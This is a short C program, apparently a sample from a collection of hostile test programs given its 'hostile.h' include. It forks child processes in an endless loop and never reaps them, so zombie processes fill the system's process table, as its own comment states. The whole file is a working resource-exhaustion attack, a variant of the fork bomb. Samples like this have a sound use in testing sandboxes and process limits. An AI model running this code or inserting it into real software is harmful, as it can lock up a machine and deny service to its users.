/* Leaves dead children behind for ever: each keeps its place in the table of processes. */
#include "hostile.h"
int main(void) {
    for (;;) {
        if (fork() == 0) _exit(0);
    }
}
